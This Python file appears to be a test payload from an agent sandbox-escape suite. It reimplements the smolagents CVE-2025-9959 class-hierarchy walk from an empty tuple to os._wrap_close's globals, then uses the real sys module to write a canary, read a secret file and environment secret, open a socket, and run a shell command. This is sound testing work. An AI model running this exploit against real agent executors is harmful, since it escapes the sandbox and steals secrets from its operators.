"""The class-hierarchy walk from an empty tuple to os.

Source: smolagents CVE-2025-9959 (incomplete validation of dunder
attributes in the local Python executor): the walk through class, bases and
subclasses to a class defined in os, whose initialiser's globals hold sys.
Tries: find os._wrap_close among object's subclasses, take its module
globals and claim the canary file, the secrets and the listener.
"""

# escape-test: {"stage": "gate", "kind": ["compile"]}

def smolagents_subclass_walk() -> dict:
    for klass in ().__class__.__bases__[0].__subclasses__():
        if klass.__name__ == "_wrap_close":
            return claim_namespace(klass.__init__.__globals__)
    return {}


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken


def claim_namespace(namespace):
    """From a real globals dict to the real sys module."""
    if "sys" in namespace:
        return claim(namespace["sys"])
    loader = namespace["__builtins__"]
    if isinstance(loader, dict):
        return claim(loader["__import__"]("sys"))
    return claim(loader.eval("__import__('sys')"))
